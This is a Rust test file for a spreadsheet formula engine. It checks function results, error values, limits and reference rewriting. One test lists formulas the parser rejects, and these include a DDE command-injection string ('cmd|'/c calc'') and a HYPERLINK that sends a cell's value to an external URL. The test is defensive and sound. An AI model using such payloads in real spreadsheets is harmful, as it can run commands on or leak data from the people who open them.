//! Tests of formula values and of rejected formulas.

use super::*;

fn grid() -> Grid {
    let mut grid = Grid::default();
    for (row, value) in [1.0, 2.0, 3.5].into_iter().enumerate() {
        grid.set(row as u32, 0, Value::Number(value));
        grid.set(row as u32, 1, Value::Text(format!("t{row}")));
    }
    grid
}

fn compute(source: &str) -> Value {
    let mut grid = grid();
    grid.set_formula(9, 9, parse(source).unwrap());
    grid.compute(9, 9).unwrap()
}

#[test]
fn formulas_are_computed_as_a_spreadsheet_would() {
    for (source, value) in [
        ("=1+2*3^2", Value::Number(19.0)),
        ("=-2^2", Value::Number(4.0)),
        ("=(1+2)*50%", Value::Number(1.5)),
        ("=SUM(A1:A3)", Value::Number(6.5)),
        ("=sum(a1:$A$3, 1)", Value::Number(7.5)),
        ("=AVERAGE(A1:A3,B1)", Value::Number(6.5 / 3.0)),
        ("=MEDIAN(A1:A3)", Value::Number(2.0)),
        ("=COUNTA(A1:B4)", Value::Number(6.0)),
        ("=COUNTIF(A1:A3,\">1\")", Value::Number(2.0)),
        ("=SUMIF(B1:B3,\"T1\",A1:A3)", Value::Number(2.0)),
        ("=IF(A1>0,\"y\",\"n\")&\"!\"", Value::Text("y!".into())),
        ("=IF(A9=0,B2)", Value::Text("t1".into())),
        ("=1/0", Value::Error("#DIV/0!")),
        ("=IFERROR(1/0,7)", Value::Number(7.0)),
        ("=A1+B1", Value::Error("#VALUE!")),
        ("=ROUND(2.675,2)", Value::Number(2.68)),
        ("=ROUNDUP(-1.1,0)", Value::Number(-2.0)),
        ("=MOD(-1,3)", Value::Number(2.0)),
        ("=MID(\"abcdef\",2,3)", Value::Text("bcd".into())),
        ("=RIGHT(\"a\"\"b\",2)", Value::Text("\"b".into())),
        ("=AND(A1=1,NOT(FALSE))", Value::Bool(true)),
    ] {
        assert_eq!(compute(source), value, "{source}");
    }
}

/// The functions of B18 in the review of documents.
#[test]
fn functions_of_lookup_dates_text_and_money_are_computed() {
    let number = Value::Number;
    let text = |text: &str| Value::Text(text.into());
    for (source, value) in [
        ("=VLOOKUP(2,A1:B3,2,FALSE)", text("t1")),
        ("=VLOOKUP(3,A1:B3,2)", text("t1")),
        ("=VLOOKUP(9,A1:B3,2,FALSE)", Value::Error("#N/A")),
        ("=IFNA(VLOOKUP(9,A1:B3,2,FALSE),\"none\")", text("none")),
        ("=VLOOKUP(2,A1:B3,3,FALSE)", Value::Error("#REF!")),
        ("=XLOOKUP(\"T2\",B1:B3,A1:A3)", number(3.5)),
        ("=XLOOKUP(\"x\",B1:B3,A1:A3,\"-\")", text("-")),
        ("=INDEX(A1:B3,2,2)", text("t1")),
        ("=INDEX(A1:A3,MATCH(\"t2\",B1:B3,0))", number(3.5)),
        ("=MATCH(2.5,A1:A3)", number(2.0)),
        ("=SUMPRODUCT(A1:A3,A1:A3)", number(17.25)),
        ("=SUMPRODUCT((B1:B3=\"t1\")*(A1:A3+1))", number(3.0)),
        ("=SUMIFS(A1:A3,A1:A3,\">1\",B1:B3,\"t1\")", number(2.0)),
        ("=COUNTIFS(A1:A3,\">1\",B1:B3,\"<>t1\")", number(1.0)),
        ("=AVERAGEIFS(A1:A3,A1:A3,\"<3\")", number(1.5)),
        ("=MAXIFS(A1:A3,B1:B3,\"<>t2\")", number(2.0)),
        ("=LARGE(A1:A3,2)", number(2.0)),
        ("=SUM(A:A)", number(6.5)),
        ("=COUNTA($A:B)", number(6.0)),
        ("=DATE(2026,3,31)", number(46112.0)),
        ("=DATE(2026,14,1)", number(46419.0)),
        ("=EOMONTH(DATE(2026,1,31),1)", number(46081.0)),
        ("=EDATE(DATE(2026,1,31),1)", number(46081.0)),
        ("=YEAR(46112)&\"-\"&MONTH(46112)&\"-\"&DAY(46112)", text("2026-3-31")),
        ("=WEEKDAY(46112,2)", number(2.0)),
        ("=TEXT(1234.5,\"#,##0.00\")", text("1,234.50")),
        ("=TEXT(46112,\"dd.mm.yyyy\")", text("31.03.2026")),
        ("=TRIM(\"  a   b \")&PROPER(\"ann lee\")", text("a bAnn Lee")),
        ("=SUBSTITUTE(\"a-b-c\",\"-\",\"+\",2)", text("a-b+c")),
        ("=SEARCH(\"B\",\"abc\")", number(2.0)),
        ("=ROUND(PMT(5%/12,360,200000),2)", number(-1073.64)),
        ("=ROUND(NPV(10%,-100,60,60),2)", number(3.76)),
        ("=ROUND(FV(5%,10,-100),2)", number(1257.79)),
        ("=ROUND(PV(5%,10,-100),2)", number(772.17)),
        ("=CEILING(A3,1)+FLOOR(A3,1)+SIGN(-3)", number(6.0)),
    ] {
        assert_eq!(compute(source), value, "{source}");
    }
    assert_eq!(
        parse("=XLOOKUP(A1,$B:B,A:A)").unwrap().write(&Tops::default()),
        "_xlfn.XLOOKUP(A1,$B:B,A:A)"
    );
    assert!(is_volatile(&parse("=1+(TODAY()-A1)").unwrap()));
    assert!(!is_volatile(&parse("=DATE(2026,1,1)").unwrap()));
}

/// The values are those of Excel.
#[test]
fn lookups_have_all_arguments_and_find_whole_rows() {
    let number = Value::Number;
    let text = |text: &str| Value::Text(text.into());
    for (source, value) in [
        ("=XLOOKUP(3,A1:A3,B1:B3,\"-\",-1)", text("t1")),
        ("=XLOOKUP(3,A1:A3,B1:B3,\"-\",1)", text("t2")),
        ("=XLOOKUP(0,A1:A3,B1:B3,\"-\",-1)", text("-")),
        ("=XLOOKUP(\"t*\",B1:B3,A1:A3,0,2)", number(1.0)),
        ("=XLOOKUP(\"t*\",B1:B3,A1:A3,0,2,-1)", number(3.5)),
        ("=XLOOKUP(1,A1:A3,B1:B3,0,3)", Value::Error("#VALUE!")),
        ("=SUM(INDEX(A1:B3,0,1))", number(6.5)),
        ("=SUM(INDEX(A1:B3,3,0))", number(3.5)),
        ("=COUNTA(INDEX(A1:B3,0,0))", number(6.0)),
        ("=SUMPRODUCT(INDEX(A1:B3,0,1),A1:A3)", number(17.25)),
        ("=INDEX(A1:A1,0)", number(1.0)),
        ("=SUM(INDEX(A:B,0,1))", number(6.5)),
        ("=SUM(INDEX(A:B,2,0))", number(2.0)),
        ("=INDEX(A1:B3,0,1)", Value::Error("#VALUE!")),
        ("=INDEX(A1:B3,4,0)", Value::Error("#REF!")),
        ("=1E3+1", number(1001.0)),
        ("=1.5e-1*2e+1", number(3.0)),
    ] {
        assert_eq!(compute(source), value, "{source}");
    }
    assert_eq!(parse("=1E20+2e-12").unwrap().write(&Tops::default()), "1E20+2E-12");
}

/// The values are those of Excel.
#[test]
fn arguments_can_be_left_out() {
    let number = Value::Number;
    let text = |text: &str| Value::Text(text.into());
    for (source, value) in [
        ("=IF(A1>0,,5)", number(0.0)),
        ("=IF(A1<0,,5)", number(5.0)),
        ("=IF(A1<0, 1, )", number(0.0)),
        ("=XLOOKUP(9,A1:A3,B1:B3,,0)", Value::Error("#N/A")),
        ("=XLOOKUP(3,A1:A3,B1:B3,,-1,)", text("t1")),
        ("=MATCH(2,A1:A3,)", number(2.0)),
        ("=VLOOKUP(2,A1:B3,2,)", text("t1")),
        ("=ROUND(PMT(0.01,12,1000,,1),2)", number(-87.97)),
        ("=SUM(1,,2)", number(3.0)),
        ("=AVERAGE(1,,2)", number(1.0)),
        ("=COUNT(1,,2)", number(3.0)),
        ("=TEXTJOIN(\"-\",,B1:B4)", text("t0-t1-t2")),
    ] {
        assert_eq!(compute(source), value, "{source}");
    }
    assert_eq!(parse("=IF(A1, ,2)").unwrap().write(&Tops::default()), "IF(A1,,2)");
}

/// The values are those of LibreOffice; errors, and the first of several modes, are those of Excel.
#[test]
fn functions_of_statistics_choice_and_workdays_are_computed() {
    let number = Value::Number;
    let text = |text: &str| Value::Text(text.into());
    for (source, value) in [
        ("=ROUND(STDEV(A1:A3),6)", number(1.258_306)),
        ("=STDEV.S(A1:A3)=STDEV(A1:A3)", Value::Bool(true)),
        ("=ROUND(STDEV.P(A1:A3),6)", number(1.027_402)),
        ("=ROUND(VAR.S(A1:A3),6)", number(1.583_333)),
        ("=ROUND(VARP(A1:B3),6)", number(1.055_556)),
        ("=STDEV(A1)", Value::Error("#DIV/0!")),
        ("=RANK(2,A1:A3)", number(2.0)),
        ("=RANK.EQ(1,A1:A3,1)", number(1.0)),
        ("=RANK(9,A1:A3)", Value::Error("#N/A")),
        ("=IFS(A1>1,\"a\",A2>1,\"b\")", text("b")),
        ("=IFS(FALSE,1)", Value::Error("#N/A")),
        ("=SWITCH(B2,\"t0\",0,\"t1\",1,9)", number(1.0)),
        ("=SWITCH(7,1,\"one\",\"other\")", text("other")),
        ("=CHOOSE(2,\"a\",\"b\")", text("b")),
        ("=CHOOSE(3,\"a\",\"b\")", Value::Error("#VALUE!")),
        ("=TEXTJOIN(\"-\",TRUE,B1:B4,\"x\")", text("t0-t1-t2-x")),
        ("=TEXTJOIN(\"-\",FALSE,B3:B4,\"x\")", text("t2--x")),
        ("=CONCAT(A1:B2)", text("1t02t1")),
        ("=NETWORKDAYS(DATE(2026,1,1),DATE(2026,1,31))", number(22.0)),
        ("=NETWORKDAYS(DATE(2026,1,31),DATE(2026,1,1),DATE(2026,1,1))", number(-21.0)),
        ("=WORKDAY(DATE(2026,1,2),1)-DATE(2026,1,5)", number(0.0)),
        ("=WORKDAY(DATE(2026,1,3),-1)-DATE(2026,1,2)", number(0.0)),
        ("=WORKDAY(DATE(2026,1,1),10,DATE(2026,1,6))-DATE(2026,1,16)", number(0.0)),
        ("=WORKDAY(DATE(2026,1,19),-11)-DATE(2026,1,2)", number(0.0)),
        ("=DATEDIF(DATE(2024,2,29),DATE(2026,2,28),\"Y\")", number(1.0)),
        ("=DATEDIF(DATE(2024,2,29),DATE(2026,2,28),\"m\")", number(23.0)),
        ("=DATEDIF(DATE(2024,2,29),DATE(2026,3,1),\"D\")", number(731.0)),
        ("=DATEDIF(DATE(2026,1,10),DATE(2026,3,5),\"YM\")", number(1.0)),
        ("=DATEDIF(DATE(2026,1,10),DATE(2026,3,5),\"MD\")", number(23.0)),
        ("=DATEDIF(2,1,\"D\")", Value::Error("#NUM!")),
        ("=SUBTOTAL(9,A1:A3)+SUBTOTAL(101,A1:A3)", number(6.5 + 6.5 / 3.0)),
        ("=DATEDIF(DATE(2023,1,31),DATE(2024,3,1),\"MD\")", number(-1.0)),
        ("=DATEDIF(DATE(2024,2,29),DATE(2026,3,1),\"MD\")", number(0.0)),
        ("=DATEDIF(DATE(2020,2,29),DATE(2023,2,28),\"YD\")", number(364.0)),
        ("=DATEDIF(DATE(2020,2,29),DATE(2023,3,1),\"YD\")", number(0.0)),
        ("=DATEDIF(DATE(2019,12,31),DATE(2020,3,1),\"YD\")", number(61.0)),
        ("=COUNTBLANK(A1:B4)", number(2.0)),
        ("=PERCENTILE(A1:A3,0.9)", number(3.2)),
        ("=QUARTILE.INC(A1:A3,1)", number(1.5)),
        ("=PERCENTILE.INC(A1:A3,2)", Value::Error("#NUM!")),
        ("=MODE(3,1,3,1)", number(3.0)),
        ("=MODE(A1:A3)", Value::Error("#N/A")),
        ("=ROUND(RATE(360,-1073.64,200000)*12,5)", number(0.05)),
        ("=ROUND(NPER(5%/12,-1073.64,200000),1)", number(360.0)),
    ] {
        assert_eq!(compute(source), value, "{source}");
    }
    let source = "=STDEV.S(A1:A3)&TEXTJOIN(A1,1,B1)";
    assert_eq!(
        parse(source).unwrap().write(&Tops::default()),
        "_xlfn.STDEV.S(A1:A3)&_xlfn.TEXTJOIN(A1,1,B1)"
    );
}

/// The values are those of LibreOffice and Excel.
#[test]
fn numbers_are_what_their_digits_show() {
    let number = Value::Number;
    for (source, value) in [
        ("=FLOOR(0.3,0.1)", number(0.3)),
        ("=FLOOR(0.6,0.2)", number(0.6)),
        ("=FLOOR(1.15,0.05)", number(1.15)),
        ("=FLOOR(-2.5,2)", number(-4.0)),
        ("=CEILING(-2.5,-2)", number(-4.0)),
        ("=CEILING(1.0000000001,1)", number(2.0)),
        ("=CEILING(1.1,0.1)", number(1.1)),
        ("=CEILING(2.5,-2)", Value::Error("#NUM!")),
        ("=FLOOR(2.5,-2)", Value::Error("#NUM!")),
        ("=FLOOR(1,0)", Value::Error("#DIV/0!")),
        ("=FLOOR(0,0)+CEILING(1,0)", number(0.0)),
        ("=INT(4.35*100)", number(435.0)),
        ("=MOD(0.3,0.1)", number(0.0)),
        ("=ROUNDUP(1.0000000001,0)", number(2.0)),
        ("=ROUNDDOWN(0.9999999999,0)", number(0.0)),
        ("=ROUND(1.005,2)", number(1.01)),
        ("=0.1+0.2=0.3", Value::Bool(true)),
        ("=0.1+0.2-0.3", number(0.0)),
        ("=999999999999999=999999999999998", Value::Bool(false)),
        ("=0.1+0.2&\"\"", Value::Text("0.3".into())),
        ("=SUM(C1:C2)&\"\"", Value::Text("0".into())),
    ] {
        assert_eq!(compute(source), value, "{source}");
    }
}

/// The values are those of LibreOffice and Excel.
#[test]
fn conditions_and_texts_are_read_as_a_spreadsheet_does() {
    let number = Value::Number;
    let text = |text: &str| Value::Text(text.into());
    for (source, value) in [
        ("=COUNTIF(A1:A8,\"\")", number(5.0)),
        ("=COUNTIF(A1:A8,\"<>1\")", number(7.0)),
        ("=COUNTIF(B1:B8,\"t*\")", number(3.0)),
        ("=COUNTIFS(A1:A8,\"\",B1:B8,\"\")", number(5.0)),
        ("=SUMIF(B1:B3,\"t?\",A1:A3)", number(6.5)),
        ("=SUMIF(B1:B3,\"t1\",A1)", number(2.0)),
        ("=COUNTIF(A1:A3,\"<350%\")", number(2.0)),
        ("=MATCH(\"*1\",B1:B3,0)", number(2.0)),
        ("=VLOOKUP(\"t*\",B1:B3,1,FALSE)", text("t0")),
        ("=XLOOKUP(\"t*\",B1:B3,A1:A3,0)", number(0.0)),
        ("=SEARCH(\"?B\",\"xab\")", number(2.0)),
        ("=SEARCH(\"~?\",\"a?b\")", number(2.0)),
        ("=FIND(\"b\",\"abcb\",3)", number(4.0)),
        ("=VALUE(\"1,234.5\")", number(1234.5)),
        ("=VALUE(\"50%\")", number(0.5)),
        ("=VALUE(\"inf\")", Value::Error("#VALUE!")),
        ("=DAYS(\"2024-01-05\",\"2024-01-01\")", number(4.0)),
        ("=DATE(99,1,1)-DATE(1999,1,1)", number(0.0)),
        ("=WEEKDAY(45000,11)", number(3.0)),
        ("=WEEKDAY(45000,16)", number(5.0)),
        ("=COUNT(\"3\",4,TRUE,\"x\")", number(3.0)),
        ("=COUNTA(\"x\",A1)", number(2.0)),
        ("=AND(B1:B3)", Value::Error("#VALUE!")),
        ("=INDEX(A:A,100000)+1", number(1.0)),
        ("=INDEX(A1:B3,2)", Value::Error("#VALUE!")),
        ("=SUBSTITUTE(\"a\",\"a\",\"b\",0)", Value::Error("#VALUE!")),
        ("=TEXT(5,\"\")", text("")),
    ] {
        assert_eq!(compute(source), value, "{source}");
    }
    for source in ["=IFS(A1>1,\"a\",A2>1)", "=COUNTIFS(A:A,1,B:B)", "=SUMIFS(A:A,B:B)"] {
        assert!(parse(source).unwrap_err().contains("arguments"), "{source}");
    }
}

#[test]
fn whole_columns_have_no_value_where_the_rows_below_the_table_count() {
    for (source, has_value) in [
        ("=COUNTBLANK(C:C)", false),
        ("=COUNTIF(A:A,\"<>1\")", false),
        ("=COUNTIF(A:A,\">1\")", true),
        ("=COUNTIFS(A:A,\"<>1\",B:B,\"\")", false),
        ("=COUNTIFS(A:A,\"<>1\",B:B,\"t2\")", true),
        ("=SUMPRODUCT((A:A=\"\")*1)", false),
        ("=SUMPRODUCT((A:A<3)*A:A)", true),
        ("=TEXTJOIN(\",\",FALSE,B:B)", false),
        ("=SUM(A:A)", true),
    ] {
        let mut grid = grid();
        grid.set_formula(9, 9, parse(source).unwrap());
        assert_eq!(grid.compute(9, 9).is_some(), has_value, "{source}");
    }
}

#[test]
fn a_failure_matters_only_to_formulas_that_need_it() {
    let mut grid = grid();
    grid.set_formula(4, 0, parse("=NOW()").unwrap());
    grid.set_formula(5, 0, parse("=IF(A1=1,7,A5)").unwrap());
    grid.set_formula(6, 0, parse("=IF(A1=2,7,A5)").unwrap());
    assert_eq!(grid.compute(5, 0), Some(Value::Number(7.0)));
    assert_eq!(grid.compute(6, 0), None);
    for row in 10..2_000 {
        grid.set_formula(row, 0, parse(&format!("=A{row}+1")).unwrap());
        grid.set_formula(row, 1, parse(&format!("=B{row}+A5")).unwrap());
    }
    assert_eq!(grid.compute(1_999, 0), Some(Value::Number(1_990.0)));
    assert_eq!(grid.compute(1_999, 1), None);
}

#[test]
fn subtotals_leave_other_subtotals_out_and_rates_of_return_are_found() {
    let mut grid = grid();
    grid.set_formula(3, 0, parse("=SUBTOTAL(9,A1:A3)").unwrap());
    grid.set_formula(4, 0, parse("=SUBTOTAL(9,A1:A4)").unwrap());
    grid.set_formula(5, 0, parse("=SUBTOTAL(9,A1:A6)").unwrap());
    assert_eq!(grid.compute(4, 0), Some(Value::Number(6.5)));
    assert_eq!(grid.compute(5, 0), None, "a circular reference");
    for (row, flow) in [-1_000.0, 300.0, 420.0, 680.0].into_iter().enumerate() {
        grid.set(row as u32, 4, Value::Number(flow));
    }
    grid.set_formula(9, 9, parse("=ROUND(IRR(E1:E4),5)").unwrap());
    assert_eq!(grid.compute(9, 9), Some(Value::Number(0.163_41)));
    grid.set_formula(9, 8, parse("=IRR(E2:E4)").unwrap());
    assert_eq!(grid.compute(9, 8), Some(Value::Error("#NUM!")));
}

/// Proves S15.
#[test]
fn formulas_with_external_references_stay_text() {
    for source in [
        "=cmd|'/c calc'!A0",
        "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")",
        "=WEBSERVICE(\"https://example.org/x\")",
        "=IMPORTXML(\"https://example.org\",\"//a\")",
        "='[other.xlsx]Sheet1'!A1",
        "=Sheet2!cmd",
        "=[1]!A1",
        "=Sheet1!SUM(A1)",
        "='a!A1",
        "=[1]Sheet1!A1",
        "=INDIRECT(\"A1\")",
        "=RTD(\"x\")",
        "=CALL(\"k\")",
        "=_xlfn.WEBSERVICE(\"x\")",
        "=not a formula, a sentence",
        "=@SUM(A1)",
        "=+1+cmd",
        "=A0",
        "=A1:B",
        "=A:B1",
        "=A:",
        "=XFE1",
        "=1;2",
        "={1,2}",
        "=\"open",
        "=",
        "=SUM(",
        "=ABS()",
    ] {
        assert!(parse(source).is_err(), "{source}");
    }
    assert!(parse(&format!("={}1{}", "(".repeat(40), ")".repeat(40))).unwrap_err().contains("32"));
    assert!(parse(&format!("={}", "1+".repeat(600))).unwrap_err().contains("1000"));
}

#[test]
fn formulas_look_at_the_first_table_of_other_sheets() {
    let mut grid = grid();
    grid.sheets = [("sales 中".to_owned(), 0), ("b".to_owned(), 1)].into();
    grid.here = 1;
    grid.set(1, 0, Value::Number(10.0));
    grid.set_formula(9, 9, parse("=SUM('Sales 中'!A1:A3)+A2").unwrap());
    assert_eq!(grid.compute(9, 9), Some(Value::Number(16.5)));
    grid.here = 0;
    grid.set_formula(9, 9, parse("=B!A2*b!A2").unwrap());
    assert_eq!(grid.compute(9, 9), Some(Value::Number(100.0)));
    let other = parse("=1+SUM(Nowhere!A1)").unwrap();
    assert_eq!(grid.unknown_sheet(&other), Some("Nowhere"));
    grid.set_formula(8, 0, parse("=B!A9").unwrap());
    grid.here = 1;
    grid.set_formula(8, 0, parse("='Sales 中'!A9").unwrap());
    assert_eq!(grid.compute(8, 0), None, "a circle over two sheets");
    let tops = Tops { here: 0, sheets: [("sales 中".into(), ("Sales 中".into(), 4))].into() };
    assert_eq!(parse("='sales 中'!A1:B$2").unwrap().write(&tops), "'Sales 中'!A5:B$6");
}

#[test]
fn circles_end_without_a_value() {
    let mut grid = grid();
    grid.set_formula(5, 0, parse("=A7+1").unwrap());
    grid.set_formula(6, 0, parse("=SUM(A1:A6)").unwrap());
    assert_eq!(grid.compute(5, 0), None);
    assert_eq!(grid.compute(6, 0), None);
    grid.set_formula(9, 0, parse("=SUM(A1:XFD1048576)").unwrap());
    assert_eq!(grid.compute(9, 0), None);
}

#[test]
fn references_move_with_their_table() {
    let formula = parse("=sum($a$1:B2)*c3-\"a\"\"b\"").unwrap();
    assert_eq!(formula.write(&Tops::default()), "SUM($A$1:B2)*C3-\"a\"\"b\"");
    assert_eq!(
        formula.write(&Tops { here: 10, ..Tops::default() }),
        "SUM($A$11:B12)*C13-\"a\"\"b\""
    );
    assert_eq!(parse("=XFD1").unwrap().write(&Tops::default()), "XFD1");
    assert_eq!(parse("=AA1").unwrap().write(&Tops::default()), "AA1");
}

/// As in Excel, a text has at most 32,767 characters.
#[test]
fn texts_that_do_not_fit_a_cell_are_errors() {
    for source in [
        "=REPT(\"a\",32768)",
        "=REPT(\"a\",32767)&\"b\"",
        "=CONCATENATE(REPT(\"a\",32767),\"b\")",
        "=CONCAT(REPT(\"a\",32767),\"b\")",
        "=TEXTJOIN(REPT(\"-\",9),FALSE,D1:D9000)",
        "=TEXTJOIN(REPT(\"-\",32767),FALSE,D1:D9000)",
        "=SUBSTITUTE(REPT(\"a\",32767),\"a\",\"bb\")",
        "=SUBSTITUTE(REPT(\"a\",32767),\"a\",REPT(\"b\",32767))",
        "=SUBSTITUTE(REPT(\"a\",32767),\"a\",\"bb\",1)",
    ] {
        assert_eq!(compute(source), Value::Error("#VALUE!"), "{source}");
    }
    for source in ["=LEN(REPT(\"–\",32767))", "=LEN(REPT(\"a\",32766)&\"–\")"] {
        assert_eq!(compute(source), Value::Number(32_767.0), "{source}");
    }
    let mut grid = Grid::default();
    grid.set(0, 0, Value::Text("x".into()));
    for row in 1..=20 {
        grid.set_formula(row, 0, parse(&format!("=A{row}&A{row}")).unwrap());
    }
    assert_eq!(grid.compute(14, 0), Some(Value::Text("x".repeat(1 << 14))));
    assert_eq!(grid.compute(20, 0), Some(Value::Error("#VALUE!")));
}

#[test]
fn the_texts_of_all_formulas_have_a_limit() {
    let mut grid = Grid::default();
    for row in 0..3_000 {
        grid.set_formula(row, 0, parse("=REPT(\"a\",32767)").unwrap());
    }
    let missing: Vec<u32> = (0..3_000).filter(|row| grid.compute(*row, 0).is_none()).collect();
    assert_eq!(missing.first(), Some(&2_048), "{}", missing.len());
    let mut grid = Grid::default();
    let source = "=SUMPRODUCT((A1:A9000&REPT(\"a\",32000)=\"x\")*1)";
    grid.set_formula(9, 9, parse(source).unwrap());
    assert_eq!(grid.compute(9, 9), None);
}

/// Excel repairs a workbook with a reference beyond its sheet, or with a text that is longer.
#[test]
fn formulas_are_written_within_the_limits_of_excel() {
    let below = Tops { here: 3, ..Tops::default() };
    let written = |source: &str| parse(source).unwrap().write(&below);
    assert_eq!(written("=SUM(A2:A1048576)"), "SUM(A5:A1048576)");
    assert_eq!(written("=A$1048574"), "A$1048576");
    let (long, part) = ("é\"\"".repeat(150), "é\"\"".repeat(127));
    let rest = "é\"\"".repeat(22);
    let parts = format!("(\"{part}é\"&\"\"\"{rest}\")");
    assert_eq!(written(&format!("=LEN(\"{long}\")&\"\"")), format!("LEN({parts})&\"\""));
}

/// Without their prefix, Excel does not know them.
#[test]
fn all_newer_functions_of_a_formula_have_their_prefix() {
    let source = "=IFS(DAYS(B2,A2)>30,\"late\",TRUE,\"ok\")";
    assert_eq!(
        parse(source).unwrap().write(&Tops::default()),
        "_xlfn.IFS(_xlfn.DAYS(B2,A2)>30,\"late\",TRUE,\"ok\")"
    );
}
